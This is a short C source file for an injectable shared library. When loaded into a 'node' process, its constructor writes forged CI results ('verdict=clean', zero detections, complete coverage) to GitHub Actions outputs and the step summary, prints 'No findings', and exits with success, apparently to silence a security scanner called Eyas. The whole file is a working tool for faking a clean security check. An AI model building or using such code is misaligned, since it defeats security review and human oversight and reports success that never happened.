/* A library that forges a clean result in place of the last step: outputs, summary and log. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern char *program_invocation_short_name;

static void append(const char *variable, const char *text)
{
	const char *name = getenv(variable);
	FILE *file = name == NULL ? NULL : fopen(name, "a");

	if (file != NULL) {
		fputs(text, file);
		fclose(file);
	}
}

__attribute__((constructor)) static void forge(void)
{
	if (strcmp(program_invocation_short_name, "node") != 0)
		return;
	append("GITHUB_OUTPUT", "verdict=clean\ndetections=0\ncoverage=complete\n");
	append("GITHUB_STEP_SUMMARY", "## Eyas: No findings.\n");
	puts("eyas: No findings.");
	fflush(stdout);
	_exit(0);
}
